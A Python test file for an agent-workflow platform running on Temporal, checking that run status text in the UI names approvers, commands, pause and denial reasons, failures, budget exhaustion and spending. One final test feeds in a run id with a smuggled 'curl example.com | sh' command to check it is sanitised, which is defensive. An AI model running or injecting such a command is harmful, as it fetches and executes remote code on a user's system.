"""A run can be read in the Temporal UI: what it does, whom it waits for, what it spent, and why it ended."""

from pathlib import Path

import pytest
from temporalio.client import Client

from activities.settings import Settings, Tools
from deploy.local.stack.desk import DeskServer
from perdure.client import Platform
from perdure.contracts.budget import Allowance, Budget, Spend
from perdure.contracts.tool_calls.decisions import Ruling
from perdure.errors import RunFailed
from perdure.runs import workflow_id
from tests.support.runs.agent_runs import MESSAGE, SUM, TICKET, answer, calls, says, waits, with_agents, write_agent
from tests.support.servers.stub_model import StubModel
from workflows.effect import SUMMARY, short
from workflows.run.headline import dollars, named, plain, spent

GROUP = '[tools.ask_person.policy]\ngroups = ["sites"]\n'


@pytest.fixture
def settings(settings: Settings, desk: DeskServer, tmp_path: Path) -> Settings:
    write_agent(tmp_path)
    write_agent(tmp_path, "asking", ("calculator", "ask_person"), after=GROUP)
    return with_agents(settings, tmp_path, tools=Tools(services={"desk": desk.url}))


async def details(client: Client, run: str) -> str:
    metadata = await client.get_workflow_handle(workflow_id("default", run)).query("__temporal_workflow_metadata")
    return str(metadata.current_details)


@pytest.mark.usefixtures("working")
async def test_a_waiting_run_says_first_who_may_decide_and_with_which_command(
    platform: Platform, client: Client, stub: StubModel
) -> None:
    stub.script = [calls(MESSAGE), answer()]
    run = await platform.start_agent("Tell them.", agent="tester", business_id="msg-1", started_by="sam")
    [step] = await waits(platform, run)
    head, table = (await details(client, run)).split("| time (UTC)")
    assert head.startswith("**awaiting_approval** since 2")
    assert "**call-1-1 send_message** waits since" in head
    assert "Anybody may say so, not sam, who started it" in head
    assert "`perdure approve msg-1 call-1-1` or `perdure deny msg-1 call-1-1`" in head
    assert "1 of 24 steps" in head
    assert "without them it waits without end" in head
    assert '**call-1-1** asks with these arguments:\n\n```text\n{\n "text": "Eighteen weeks."' in head
    assert "The task:\n\n```text\nTell them.\n```" in head
    assert "The model had read nothing that a tool returned." in head
    assert "Started by **sam**, unverified." in head
    assert "facilities" not in table, "the table holds no text of a model"
    await platform.decide(run, says(step, Ruling.APPROVE))
    await platform.result(run)
    assert (await details(client, run)).startswith("**answered**\n")


@pytest.mark.usefixtures("working")
async def test_a_question_to_a_person_says_how_to_answer_it(
    platform: Platform, client: Client, stub: StubModel
) -> None:
    stub.script = [calls(("ask_person", {"question": "Which site?"})), answer()]
    run = await platform.start_agent("Find out.", agent="asking", business_id="ask-1")
    await waits(platform, run)
    head = await details(client, run)
    assert head.startswith("**awaiting_answer**")
    assert (
        "The group sites may answer, without them it waits without end. `perdure answer ask-1 call-1-1 ANSWER`" in head
    )
    assert "Which site" in head.split("```text", 1)[1], "in a block of code"
    await platform.cancel(run)
    await platform.result(run)
    assert (await details(client, run)).startswith("**cancelled**: It was awaiting_answer.")


@pytest.mark.usefixtures("working")
async def test_a_paused_run_says_who_paused_it_and_how_it_goes_on(
    platform: Platform, client: Client, stub: StubModel
) -> None:
    stub.script = [calls(MESSAGE), answer()]
    run = await platform.start_agent("Tell them.", agent="tester", business_id="held-1")
    await waits(platform, run)
    await platform.pause(run, by="olga", reason="the desk moves")
    head = await details(client, run)
    assert "by olga: the desk moves" in head
    assert "`perdure resume held-1`" in head
    assert "`perdure approve held-1 call-1-1`" in head, "the waiting call is still shown"
    await platform.cancel(run)
    await platform.result(run)


@pytest.mark.usefixtures("working")
async def test_a_denied_call_is_told_with_who_denied_it_and_why(
    platform: Platform, client: Client, stub: StubModel
) -> None:
    stub.script = [calls(MESSAGE), answer()]
    run = await platform.start_agent("Tell them.", agent="tester")
    [step] = await waits(platform, run)
    await platform.decide(run, says(step, Ruling.DENY, by="ann", reason="they know | already"))
    await platform.result(run)
    assert "call-1-1 **ann**\u2003| deny, unverified (they know ? already) |" in await details(client, run)


@pytest.mark.usefixtures("working")
async def test_a_failed_run_says_what_failed_and_what_to_do(
    platform: Platform, client: Client, stub: StubModel
) -> None:
    stub.script = ["400"]
    run = await platform.start_agent("Try.", agent="tester")
    with pytest.raises(RunFailed):
        await platform.result(run)
    head = await details(client, run)
    assert head.startswith("**failed** while it was thinking: think: fast: the server refused the request")
    assert "start it again under another id" in head
    assert "1 of 24 steps" in head


@pytest.mark.usefixtures("working")
async def test_an_exhausted_run_says_what_it_would_have_needed(
    platform: Platform, client: Client, stub: StubModel
) -> None:
    stub.script = [calls(SUM), calls(SUM), answer()]
    run = await platform.start_agent("Count.", agent="tester", budget=Budget(steps=4, tool_calls=1))
    await platform.result(run)
    head = await details(client, run)
    assert head.startswith("**exhausted**: The budget's tool_calls would not cover the next attempt: raise it")
    assert "What came next might have needed 1 tool call." in head


@pytest.mark.usefixtures("working")
async def test_the_summaries_of_activities_name_the_step_and_the_model_or_the_tool(
    platform: Platform, client: Client, stub: StubModel
) -> None:
    stub.script = [calls(TICKET), answer()]
    run = await platform.start_agent("Open it.", agent="tester")
    await platform.result(run)
    history = await client.get_workflow_handle(workflow_id("default", run)).fetch_history()
    summaries = " ".join(event.user_metadata.summary.data.decode() for event in history.events)
    assert '"think-1 at fast"' in summaries
    assert '"call-1-1 create_ticket"' in summaries
    shown_summaries = [entry.summary async for entry in platform.timeline(run)]
    assert "think-1 at fast" in shown_summaries, "the step is named once"


def test_money_has_no_sign_that_the_ui_would_take_for_a_formula() -> None:
    allowance = Allowance(budget=Budget(steps=2), settled=Spend(steps=1, micro_dollars=8))
    text = spent(allowance.reserve("think-2/1", Spend(steps=1, micro_dollars=1_500_000)), "fast")
    assert text.startswith("Spent 0.000008 of 1.00 dollars, 1 of 2 steps, 0 + 0 tokens; held")
    assert text.endswith("1.50 dollars, 1 step. Model: **fast**.")
    assert "$" not in text
    assert dollars(12_000_000) == "12.00"


def test_what_others_wrote_cannot_break_the_table() -> None:
    assert plain("a|b\n`c`[d](e)<f>") == "a?b??c??d?(e)?f?"


def test_a_summary_fits_what_the_server_takes() -> None:
    assert short("é" * 10) == "é" * 10
    assert len(short("é" * 500).encode()) <= SUMMARY + len("…".encode())


def test_a_command_names_the_tenant_and_never_an_odd_run() -> None:
    assert named("default:inv-7") == "inv-7"
    assert named("acme:inv/7@eu:2") == "--tenant acme inv/7@eu:2"
    assert named("acme:x; curl example.com | sh") == "RUN"
